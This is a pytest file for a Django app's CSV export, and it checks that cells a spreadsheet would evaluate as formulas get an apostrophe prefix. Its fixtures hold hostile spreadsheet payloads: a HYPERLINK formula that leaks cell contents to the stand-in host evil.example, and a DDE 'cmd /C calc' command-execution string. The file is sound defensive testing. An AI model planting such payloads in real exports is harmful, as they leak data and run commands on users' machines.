"""CSV export: no cell a spreadsheet would evaluate, whichever column it is in (file lists included) and even
behind leading whitespace; the text itself is kept, behind a `'`."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from django.test import Client

from tests.support.history_data import make_job, make_spark
from workspace.history.export import FORMULA_PREFIXES, to_csv
from workspace.projects.services import create_file, create_workspace

pytestmark = [pytest.mark.django_db, pytest.mark.embedded]

HYPERLINK = '=HYPERLINK("http:"&CHAR(47)&CHAR(47)&"evil.example?leak="&A1,"open me")'


def exported(user, workspace_id: int) -> list[dict[str, str]]:
    client = Client()
    client.force_login(user)
    response = client.get(f"/api/history/workspaces/{workspace_id}/export", {"format": "csv"})
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def is_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_PREFIXES) or cell.lstrip().startswith(FORMULA_PREFIXES)


@pytest.fixture
def hostile_history():
    user = get_user_model().objects.create_user(username="-2+3", password="x" * 12)
    workspace = create_workspace(user, "@SUM(1+1)*cmd|' /C calc'!A0")
    node = create_file(workspace, HYPERLINK)
    make_spark(workspace, user, file=node, prompt=" =1+1", model="+model", error="\t=ERR()")
    changeset = [{"path": "=1+2", "status": "added"}, {"path": "b.py", "status": "modified"}]
    make_job(workspace, user, prompt="\r\n-1", result={"changeset": changeset}, error="@ERR")
    return user, workspace


def test_the_files_column_is_neutralised(hostile_history):
    user, workspace = hostile_history
    rows = {row["kind"]: row for row in exported(user, workspace.id)}
    assert rows["spark"]["files"] == "'" + HYPERLINK
    assert rows["job"]["files"] == "'=1+2;b.py"


def test_no_exported_text_cell_starts_a_formula_even_after_whitespace(hostile_history):
    user, workspace = hostile_history
    rows = exported(user, workspace.id)
    assert len(rows) == 2
    for row in rows:
        for column, cell in row.items():
            assert not is_formula(cell) or cell.startswith("'"), f"{column} = {cell!r} would be evaluated"
    spark = next(row for row in rows if row["kind"] == "spark")
    assert spark["prompt"] == "' =1+1" and spark["error"] == "'\t=ERR()" and spark["model"] == "'+model"
    assert spark["user"] == "'-2+3" and spark["workspace"].startswith("'@SUM")


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (["=a", "b"], "'=a;b"),
        (["a", "=b"], "a;=b"),  # only how a cell starts makes it a formula
        (["  @x"], "'  @x"),
        ([], ""),
        ("\n+1", "'\n+1"),
        ("plain", "plain"),
        (-3, "-3"),  # a number is written as one; only text is prefixed
        (None, ""),
    ],
)
def test_each_kind_of_cell_is_written_safely(value, cell):
    written = next(csv.DictReader(io.StringIO(to_csv([{"prompt": value}]))))
    assert written["prompt"] == cell
